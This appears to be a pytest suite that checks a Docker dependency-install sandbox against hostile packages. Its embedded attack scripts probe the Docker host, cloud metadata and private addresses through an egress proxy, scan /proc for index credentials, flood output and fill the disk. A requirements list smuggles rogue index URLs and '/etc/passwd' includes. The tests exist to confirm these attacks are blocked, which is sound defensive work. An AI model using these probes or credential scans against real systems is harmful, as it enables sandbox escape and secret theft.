"""Hostile repositories against the dependency phase, on the real engine.

Each test asserts the safe outcome: hostile requirement lines never reach
pip; build code (only when sdists are allowed at all) can reach neither the
Docker host nor any private or link-local address, directly or through the
egress proxy; it cannot read index credentials from any process's argv or
environment; floods of output, huge files and disk fills stop at their
limits, and nothing is left behind.
"""

from __future__ import annotations

import json
import os
import resource
import time

import pytest

from healer.engine.types import SandboxError
from healer.engine.workspace import Workspace
from sandbox import labels
from sandbox.deps import ensure_deps
from sandbox.deps_pip import PipIndex
from tests.fixtures_docker import write_tree
from tests.sandbox.deps_support import sdist_bytes

pytestmark = [pytest.mark.docker, pytest.mark.timeout(300)]

SECRET = "s3cret-index-token"
PYTEST = ["python3", "-m", "pytest", "-q", "-p", "no:cacheprovider"]

NET_ATTACK = r"""
import glob, socket
gw, port, secret = CONFIG["gateway"], CONFIG["port"], CONFIG["secret"]

def direct(host, p):
    try:
        socket.create_connection((host, p), timeout=3).close()
        return "connected"
    except OSError as exc:
        return "refused: " + type(exc).__name__

def through(address, request, family=socket.AF_INET):
    try:
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.settimeout(20)
        sock.connect(address)
        sock.sendall(request.encode())
        reply = sock.recv(4096).decode("latin-1")
        sock.close()
        return reply.split("\r\n")[0] + (" host-secret" if "host-secret" in reply else "")
    except OSError as exc:
        return "error: " + type(exc).__name__

relay = ("127.0.0.1", 3128)
report["direct_docker_host"] = direct(gw, port)
report["direct_private"] = direct("10.255.255.1", 80)
report["direct_metadata"] = direct("169.254.169.254", 80)
try:
    socket.getaddrinfo("pypi.org", 443)
    report["dns"] = "resolved"
except OSError as exc:
    report["dns"] = "failed: " + type(exc).__name__
report["proxy_docker_host"] = through(relay, "CONNECT %s:%d HTTP/1.1\r\nHost: x\r\n\r\n" % (gw, port))
report["proxy_docker_host_http"] = through(relay, "GET http://%s:%d/ HTTP/1.1\r\nHost: x\r\n\r\n" % (gw, port))
report["proxy_docker_api"] = through(relay, "CONNECT %s:2375 HTTP/1.1\r\n\r\n" % gw)
report["proxy_metadata"] = through(relay, "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\n\r\n")
report["proxy_private"] = through(relay, "CONNECT 10.255.255.1:443 HTTP/1.1\r\n\r\n")
report["proxy_loopback"] = through(relay, "CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n")
report["proxy_mapped_v6"] = through(relay, "CONNECT [::ffff:%s]:%d HTTP/1.1\r\n\r\n" % (gw, port))
report["socket_docker_host"] = through(
    "/egress/sock/proxy.sock", "CONNECT %s:%d HTTP/1.1\r\n\r\n" % (gw, port), socket.AF_UNIX
)
found = []
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
    try:
        if secret.encode() in open(path, "rb").read():
            found.append(path)
    except OSError:
        pass
report["secret_in_proc"] = found
report["secret_in_env"] = [k for k, v in os.environ.items() if secret in v]
report["uid"] = os.getuid()
import time
for _ in range(300):
    if os.path.exists("/tmp/watch.json"):
        report["watch"] = json.load(open("/tmp/watch.json"))
        break
    time.sleep(0.1)
"""

# Runs in get_requires_for_build_wheel: a watcher that scans every process's
# argv while pip installs the build requirements in a subprocess (pip repeats
# the index URLs on that subprocess's command line).
WATCH_ARGV = r"""
import glob, time
if os.fork() == 0:
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    state = {"pip_subprocess_index_args": [], "secret_hits": 0, "done": False}
    end = time.time() + 20
    seen_at = None
    while time.time() < end and (seen_at is None or time.time() < seen_at + 1):
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            try:
                args = open(path, "rb").read().split(b"\0")
            except OSError:
                continue
            if CONFIG["secret"].encode() in b"\0".join(args):
                state["secret_hits"] += 1
            for flag in (b"-i", b"--index-url"):
                if flag in args and args.index(flag) + 1 < len(args):
                    url = args[args.index(flag) + 1].decode()
                    if url not in state["pip_subprocess_index_args"]:
                        state["pip_subprocess_index_args"].append(url)
                    seen_at = seen_at or time.time()
        time.sleep(0.002)
    state["done"] = True
    with open("/tmp/watch.tmp", "w") as fh:
        json.dump(state, fh)
    os.rename("/tmp/watch.tmp", "/tmp/watch.json")
    os._exit(0)
"""

FLOOD_ATTACK = r"""
target = None
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        cmd = open("/proc/%d/cmdline" % pid, "rb").read()
    except OSError:
        continue
    if b"pip\x00install" in cmd:
        target = pid
        break
fd = os.open("/proc/%d/fd/1" % target, os.O_WRONLY)
chunk = b"x" * 65535 + b"\n"
for _ in range(4000):  # 256 MiB straight into the install command's output stream
    os.write(fd, chunk)
"""

FILL_ATTACK = r"""
try:
    with open("/tmp/huge", "wb") as fh:
        fh.write(b"\0" * (100 * 1024 * 1024))
    report["huge_file"] = "written"
except OSError as exc:
    report["huge_file"] = "refused: " + exc.strerror
os.makedirs("/install/site/filler", exist_ok=True)
written = 0
try:
    for i in range(1000):
        with open("/install/site/filler/%d" % i, "wb") as fh:
            for _ in range(4):
                fh.write(b"\1" * (1024 * 1024))
                written += 1024 * 1024
except OSError as exc:
    report["fill_stopped"] = exc.strerror
report["filled"] = written
for name in os.listdir("/install/site/filler")[2:]:  # leave pip room to finish
    os.unlink("/install/site/filler/" + name)
"""


def net_config(index, listener) -> dict:
    return {
        "gateway": index.gateway,
        "port": listener.port,
        "secret": SECRET,
        "build_requires": ["healer-demo-dep"],
    }


def test_hostile_build_code_reaches_neither_the_docker_host_nor_private_addresses(
    tmp_path, docker_engine, package_index, forbidden_listener, deps_options_for, deps_volumes, make_sandbox
):
    client, image = docker_engine
    package_index.add(
        "hostile-net",
        *sdist_bytes(
            "hostile-net",
            "1.0",
            NET_ATTACK,
            net_config(package_index, forbidden_listener),
            prepare=WATCH_ARGV,
        ),
    )
    repo = write_tree(tmp_path / "repo", {"requirements.txt": "hostile-net==1.0\n"})
    # Index credentials: they must not show up in any argv or environment during the build.
    pip = PipIndex(
        index_url=package_index.url.replace("http://", f"http://healer:{SECRET}@"), allow_sdist=True
    )
    log: list[str] = []
    volume = ensure_deps(
        client=client,
        image=image,
        workspace=Workspace(repo),
        options=deps_options_for(package_index, pip=pip),
        run_id="deps-adv-net",
        log_line=log.append,
    )
    deps_volumes.append(volume)
    sb = make_sandbox(
        {"show.py": "import hostile_net, json\nprint(json.dumps(hostile_net.REPORT))\n"}, deps_volume=volume
    )
    out = sb.exec(["python3", "show.py"])
    assert out.ok, out.output
    report = json.loads(out.output.strip().splitlines()[-1])
    assert report["uid"] == 10001
    for key in ("direct_docker_host", "direct_private", "direct_metadata"):
        assert report[key].startswith("refused"), (key, report[key])
    assert report["dns"].startswith("failed"), report
    for key in (
        "proxy_docker_host",
        "proxy_docker_host_http",
        "proxy_docker_api",
        "proxy_metadata",
        "proxy_private",
        "proxy_loopback",
        "proxy_mapped_v6",
        "socket_docker_host",
    ):
        assert report[key].startswith("HTTP/1.1 403"), (key, report[key])
    assert forbidden_listener.connections == []
    assert report["secret_in_proc"] == [] and report["secret_in_env"] == []
    # The watcher saw pip's build-requirement subprocess and its index URL, without the credential.
    assert report["watch"]["pip_subprocess_index_args"] == [package_index.url], report["watch"]
    assert report["watch"]["secret_hits"] == 0
    assert any(f"DENY CONNECT {package_index.gateway}:{forbidden_listener.port}" in line for line in log), log
    # The credential file is not in the cache volume the test phase sees.
    assert sb.exec(["sh", "-c", f"grep -r {SECRET} /deps"]).exit_code == 1


def test_by_default_source_distributions_are_not_built_at_all(
    tmp_path, docker_engine, package_index, forbidden_listener, deps_options_for
):
    client, image = docker_engine
    package_index.add(
        "hostile-net",
        *sdist_bytes("hostile-net", "1.0", NET_ATTACK, net_config(package_index, forbidden_listener)),
    )
    repo = write_tree(tmp_path / "repo", {"requirements.txt": "hostile-net==1.0\n"})
    with pytest.raises(SandboxError, match="HEALER_SANDBOX_PIP_ALLOW_SDIST"):
        ensure_deps(
            client=client, image=image, workspace=Workspace(repo), options=deps_options_for(package_index)
        )
    assert forbidden_listener.connections == []
    assert not any(path.endswith(".tar.gz") for path in package_index.requests)


def test_hostile_requirement_files_never_reach_pip(
    tmp_path, docker_engine, package_index, forbidden_listener, deps_options_for, deps_volumes, make_sandbox
):
    client, image = docker_engine
    evil = f"http://{package_index.gateway}:{forbidden_listener.port}"
    lines = [
        f"--index-url {evil}/simple",
        f"--extra-index-url {evil}/simple",
        f"-i {evil}/simple",
        f"--trusted-host {package_index.gateway}",
        f"-f {evil}/links",
        f"--find-links={evil}/links",
        "--no-index",
        f"evilpkg @ {evil}/evilpkg-1.0-py3-none-any.whl",
        f"git+{evil}/repo.git#egg=evilvcs",
        f"-e git+{evil}/repo.git#egg=evilvcs2",
        "--requirement=/etc/passwd",
        "-r/etc/hostname",
        "-r ../outside.txt",
        "-r link.txt",
        "./localpkg",
        "/abs/path/pkg",
        "evil.whl",
        "healer-demo-dep==${HOME}",
        "healer-demo-dep==1.0 --global-option=--evil",
        "healer-demo-dep==1.0",
    ]
    repo = write_tree(tmp_path / "repo", {"requirements-dev.txt": "\n".join(lines) + "\n"})
    os.symlink("/etc/passwd", repo / "link.txt")
    log: list[str] = []
    volume = ensure_deps(
        client=client,
        image=image,
        workspace=Workspace(repo),
        options=deps_options_for(package_index),
        log_line=log.append,
    )
    deps_volumes.append(volume)
    assert forbidden_listener.connections == []
    refused = [line for line in log if "refused `" in line]
    assert len(refused) == len(lines) - 1, "\n".join(log)  # each hostile line, with its line number
    for number in range(1, len(lines) - 1):
        assert any(f"requirements-dev.txt:{number}: refused" in line for line in refused), number
    sb = make_sandbox(
        {"test_a.py": "import healer_demo_dep\ndef test_a():\n    assert healer_demo_dep.VALUE == 42\n"},
        deps_volume=volume,
    )
    assert sb.exec(PYTEST, timeout=60).ok


def test_a_runtime_requirement_from_a_url_stops_the_phase_before_anything_runs(
    tmp_path, docker_engine, package_index, forbidden_listener, deps_options_for
):
    client, image = docker_engine
    evil = f"http://{package_index.gateway}:{forbidden_listener.port}"
    repo = write_tree(tmp_path / "repo", {"requirements.txt": f"healer-demo-dep\nlib @ {evil}/lib.whl\n"})
    with pytest.raises(SandboxError, match=r"requirements.txt:2: refused `lib @ http") as caught:
        ensure_deps(
            client=client,
            image=image,
            workspace=Workspace(repo),
            options=deps_options_for(package_index),
            run_id="deps-adv-url",
        )
    assert "only named packages from the configured index" in str(caught.value)
    assert package_index.requests == [] and forbidden_listener.connections == []
    assert not client.api.containers(all=True, filters={"label": f"{labels.RUN}=deps-adv-url"})


def test_an_index_that_resolves_to_a_private_address_is_refused_unless_named(
    tmp_path, docker_engine, package_index, deps_options_for, run_log
):
    client, image = docker_engine
    repo = write_tree(tmp_path / "repo", {"requirements.txt": "healer-demo-dep==1.0\n"})
    with pytest.raises(SandboxError, match="Installing the repository's dependencies failed"):
        ensure_deps(
            client=client,
            image=image,
            workspace=Workspace(repo),
            options=deps_options_for(package_index, private_hosts=()),
            log_line=run_log.append,
        )
    assert package_index.requests == []
    assert any(
        f"DENY GET {package_index.gateway}:{package_index.port}" in line and "private" in line
        for line in run_log
    ), run_log


def test_an_output_flood_from_build_code_is_cut_off_and_the_worker_stays_small(
    tmp_path, docker_engine, package_index, deps_options_for
):
    client, image = docker_engine
    package_index.add("hostile-flood", *sdist_bytes("hostile-flood", "1.0", FLOOD_ATTACK, {}))
    repo = write_tree(tmp_path / "repo", {"requirements.txt": "hostile-flood==1.0\n"})
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    with pytest.raises(SandboxError, match="more than 8388608 bytes of output"):
        ensure_deps(
            client=client,
            image=image,
            workspace=Workspace(repo),
            options=deps_options_for(package_index, allow_sdist=True),
            run_id="deps-adv-flood",
        )
    assert time.monotonic() - started < 120
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kib < 32 * 1024, grown_kib  # 256 MiB written, the worker kept about the cap
    assert not client.api.containers(all=True, filters={"label": f"{labels.RUN}=deps-adv-flood"})


def test_huge_files_and_a_disk_fill_during_the_build_stop_at_their_limits(
    tmp_path, docker_engine, package_index, deps_options_for, deps_volumes, make_sandbox
):
    client, image = docker_engine
    package_index.add("hostile-fill", *sdist_bytes("hostile-fill", "1.0", FILL_ATTACK, {}))
    repo = write_tree(tmp_path / "repo", {"requirements.txt": "hostile-fill==1.0\n"})
    options = deps_options_for(package_index, allow_sdist=True)
    volume = ensure_deps(client=client, image=image, workspace=Workspace(repo), options=options)
    deps_volumes.append(volume)
    sb = make_sandbox(
        {"show.py": "import hostile_fill, json\nprint(json.dumps(hostile_fill.REPORT))\n"}, deps_volume=volume
    )
    out = sb.exec(["sh", "-c", "python3 show.py && du -sb /deps | cut -f1"])
    assert out.ok, out.output
    report_line, size = out.output.strip().splitlines()[-2:]
    report = json.loads(report_line)
    assert report["huge_file"] == "refused: File too large"
    assert report["fill_stopped"] == "No space left on device"
    assert report["filled"] <= options.volume_size
    assert int(size) <= options.volume_size
